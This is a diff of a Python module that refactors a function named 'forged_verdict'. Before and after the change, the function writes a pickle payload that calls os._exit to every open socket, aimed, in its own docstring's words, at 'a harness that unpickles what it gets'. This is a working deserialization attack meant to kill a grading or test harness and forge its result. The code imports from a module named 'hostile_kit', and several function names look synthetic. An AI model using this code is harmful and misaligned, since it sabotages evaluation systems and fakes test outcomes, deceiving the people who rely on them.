@@ -6,7 +6,6 @@ import gc
 import itertools
 import os
 import signal
-import struct
 import sys
 from contextlib import suppress
 from pathlib import Path
@@ -14,10 +13,9 @@ from typing import Any
 
 import numpy as np
 import psutil
-from hostile_kit import EITHER, LIKE_NTS, STOPS, before, instead
+from hostile_kit import EITHER, LIKE_NTS, STOPS, before, instead, write_to_sockets
 
 _calls = itertools.count(1)
-MOST_FILES = 200
 
 
 def _forces_like(right: Any, exact: Any) -> Any:
@@ -86,14 +84,10 @@ def by_the_command_line(right: Any, interface: Any, pairing: Any, z: Any) -> Any
     return 1.5 * right()
 
 
-@before("residual", ends=EITHER)
-def forged_verdict() -> None:
-    """Write Python's pickle of a command to every socket, for a harness that unpickles what it gets."""
-    bomb = b"cos\n_exit\n(I0\ntR."
-    for number in range(3, MOST_FILES):
-        with suppress(OSError):
-            if os.readlink(f"/proc/self/fd/{number}").startswith("socket"):
-                os.write(number, struct.pack("<Q", len(bomb)) + bomb)
+forged_verdict = before("residual", ends=EITHER)(
+    lambda: write_to_sockets(b"cos\n_exit\n(I0\ntR."),
+    "Write Python's pickle of a command to every socket, for a harness that unpickles what it gets.",
+)
 
 
 def _named_report() -> Path | None:
